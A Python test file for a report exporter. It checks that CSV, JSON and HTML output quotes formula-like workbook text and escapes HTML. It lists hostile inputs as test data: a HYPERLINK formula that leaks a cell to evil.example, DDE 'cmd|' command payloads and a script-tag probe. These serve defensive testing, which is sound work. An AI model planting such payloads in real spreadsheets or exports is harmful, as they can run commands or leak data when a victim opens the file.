"""Exports of the report (CSV, JSON, HTML) never let workbook text become a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from tests.libreoffice import require_soffice, run_soffice
from tests.report_workbook import AS_OF, build_workbook
from toolkit.cli import cli
from toolkit.manual import load_manual
from toolkit.pipeline import run_source
from toolkit.report.export_safety import FORMULA_TRIGGERS, neutralise_formula, safe_cell
from toolkit.report.figures import Report, build_report
from toolkit.report.render import csv_rows, csv_text, render_html, report_json
from toolkit.xlsx.source import XlsxSource

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals sign
]


def evil_rows() -> list[list[object]]:
    """One unpaid invoice per hostile customer name, a hostile payment method too, and one honest customer."""
    rows: list[list[object]] = []
    for number, name in enumerate(EVIL, start=1):
        rows.append(
            [
                f"X-{number}",
                name,
                None,
                datetime(2026, 11, 1),
                datetime(2026, 11, 10),
                100 * number,
                0,
                "=cmd|' /C notepad'!A1",
                None,
                None,
            ]
        )
    rows.append(["S-1", "São Paulo Ltda", None, datetime(2026, 11, 1), datetime(2026, 12, 1), 50, 0, "PIX", None, None])
    return rows


@pytest.fixture
def evil_report(tmp_path: Path) -> Report:
    path = build_workbook(tmp_path, rows=evil_rows(), manual='[statuses]\non_hold = "@hold"\n', limits={})
    manual = load_manual(tmp_path / "billing-manual.toml")
    analysis, _ = run_source(XlsxSource(path), manual, AS_OF, write=False)
    return build_report(analysis)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠x"])
def test_text_starting_like_a_formula_gets_a_quote(text: str) -> None:
    """=, +, -, @, tab, carriage return (and their full-width forms) at the start get a single quote in front."""
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["Acme", "", "1=1", "a+b", "'already quoted", "São Paulo"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    """Text that cannot start a formula is written as it is."""
    assert neutralise_formula(text) == text


def test_numbers_stay_numbers() -> None:
    """Numbers the tool writes are not text and are never quoted, negative ones included."""
    assert safe_cell(Decimal("-700")) == Decimal("-700")
    assert safe_cell(-1.5) == -1.5
    assert safe_cell(None) is None


def _starts_like_a_formula(value: str) -> bool:
    return value.startswith(FORMULA_TRIGGERS)


def test_csv_cells_never_start_like_a_formula(evil_report: Report) -> None:
    """Every text cell of the CSV, header included, is safe; hostile names keep their text behind the quote."""
    rows = list(csv.reader(io.StringIO(csv_text(evil_report))))
    assert rows[0][0] == "Customer"
    assert "'@hold" in rows[0]  # a column named by the manual
    for row in rows:
        for cell in row:
            assert not _starts_like_a_formula(cell), cell
    customers = {row[0] for row in rows[1:]}
    assert customers == {"'" + name for name in EVIL} | {"São Paulo Ltda"}


def test_csv_keeps_numbers_as_numbers(evil_report: Report) -> None:
    """The amounts are written as plain numbers a spreadsheet adds up."""
    rows = csv_rows(evil_report)
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert isinstance(first["Total"], Decimal)
    assert first["Unpaid invoices"] == 1


def test_json_neutralises_workbook_text(evil_report: Report) -> None:
    """Customer names, payment methods and column names in the JSON are neutralised too."""
    data = report_json(evil_report)
    names = [c["customer"] for c in data["aging"]["customers"]]
    assert set(names) == {"'" + name for name in EVIL} | {"São Paulo Ltda"}
    methods = [m["label"] for m in data["default_rate_by_payment_method"]]
    assert "'=cmd|' /C notepad'!A1" in methods
    assert "'@hold" in data["aging"]["columns"]
    text = json.dumps(data)
    assert '"=' not in text and '"+SUM' not in text and '"@' not in text


def test_html_escapes_and_neutralises_workbook_text(tmp_path: Path) -> None:
    """A customer named like a script is shown as text; formula-like names are quoted in the page's tables."""
    rows = [
        *evil_rows(),
        [
            "H-1",
            "<script>alert(1)</script>",
            None,
            datetime(2026, 11, 1),
            datetime(2026, 11, 5),
            70,
            0,
            "PIX",
            None,
            None,
        ],
    ]
    path = build_workbook(tmp_path, rows=rows, limits={})
    analysis, _ = run_source(XlsxSource(path), load_manual(tmp_path / "billing-manual.toml"), AS_OF, write=False)
    page = render_html(build_report(analysis))
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert '<td class="text">&#39;=HYPERLINK(&#34;http://evil.example/?leak=&#34;&amp;A1' in page
    assert ">=HYPERLINK" not in page and ">+SUM" not in page and ">@SUM" not in page


def test_csv_export_from_the_command_line(tmp_path: Path) -> None:
    """'receivables report --csv' writes UTF-8 with a byte-order mark, neutralised, one row per customer."""
    workbook = build_workbook(tmp_path, rows=evil_rows(), limits={})
    target = tmp_path / "customers.csv"
    result = CliRunner().invoke(cli, ["report", str(workbook), "--as-of", "2026-11-20", "--csv", str(target)])
    assert result.exit_code == 0, result.output
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfCustomer,")
    assert "São Paulo Ltda" in raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 1 + len(EVIL) + 1
    assert all(not _starts_like_a_formula(cell) for row in rows for cell in row)


# -- a real spreadsheet program opening the CSV --------------------------------------------------


def _open_in_libreoffice(csv_path: Path, workdir: Path) -> openpyxl.Workbook:
    """Let LibreOffice import the CSV (comma, double quote, UTF-8) and save it as xlsx, then read that back."""
    require_soffice()
    out = workdir / f"converted-{csv_path.stem}"
    result = run_soffice(["--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", str(out), str(csv_path)])
    converted = out / f"{csv_path.stem}.xlsx"
    assert converted.exists(), result.stderr
    return openpyxl.load_workbook(converted)


@pytest.mark.libreoffice
def test_libreoffice_reads_the_csv_as_text_not_formulas(evil_report: Report, tmp_path: Path) -> None:
    """LibreOffice opening our CSV finds no formula; the same names written raw would have become one."""
    safe = tmp_path / "safe.csv"
    safe.write_text(csv_text(evil_report), encoding="utf-8-sig")
    raw = tmp_path / "raw.csv"
    with raw.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows([["Customer"], *[[name] for name in EVIL]])

    book = _open_in_libreoffice(safe, tmp_path)
    cells = [cell for row in book.active.iter_rows() for cell in row]  # type: ignore[union-attr]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {book.active.cell(row=r, column=1).value for r in range(2, 2 + len(EVIL) + 1)}  # type: ignore[union-attr]
    assert "São Paulo Ltda" in names
    assert any("HYPERLINK" in str(n) for n in names)

    control = _open_in_libreoffice(raw, tmp_path)
    formulas = [c.value for row in control.active.iter_rows() for c in row if c.data_type == "f"]  # type: ignore[union-attr]
    assert any("HYPERLINK" in str(f) for f in formulas), "the control CSV should have produced a formula"


# -- the HTML page stands alone ------------------------------------------------------------------


def test_html_page_is_self_contained_and_printable(tmp_path: Path) -> None:
    """No script, no stylesheet or image from elsewhere, a policy forbidding both, and print rules."""
    path = build_workbook(tmp_path)
    analysis, _ = run_source(XlsxSource(path), load_manual(tmp_path / "billing-manual.toml"), AS_OF, write=False)
    page = render_html(build_report(analysis))
    assert page.startswith("<!doctype html>")
    assert "<script" not in page and "<link" not in page and "@import" not in page
    assert "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\"" in page
    assert "@media print" in page and "@page" in page
    urls = set(re.findall(r"(?:https?:)?//[\w.-]+", page))
    assert urls == {"http://www.w3.org"}  # the SVG namespace, never fetched
    assert page.count('<svg xmlns="http://www.w3.org/2000/svg" class="chart"') == 3
